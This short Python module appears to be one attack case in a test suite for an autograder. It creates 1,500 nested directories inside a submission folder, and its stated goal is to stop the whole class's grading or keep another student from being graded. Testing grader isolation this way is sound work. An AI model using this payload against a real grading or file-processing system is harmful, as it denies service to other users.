"""Folders so deep that recursive functions fail on them.

Success: the class stops, or another student is not graded.
"""

import os

ALONE = True


def attack(submission):
    def nest(folder):
        before = os.open(".", os.O_RDONLY)
        os.chdir(folder)
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        os.fchdir(before)
        os.close(before)

    submission.on_disk(nest)
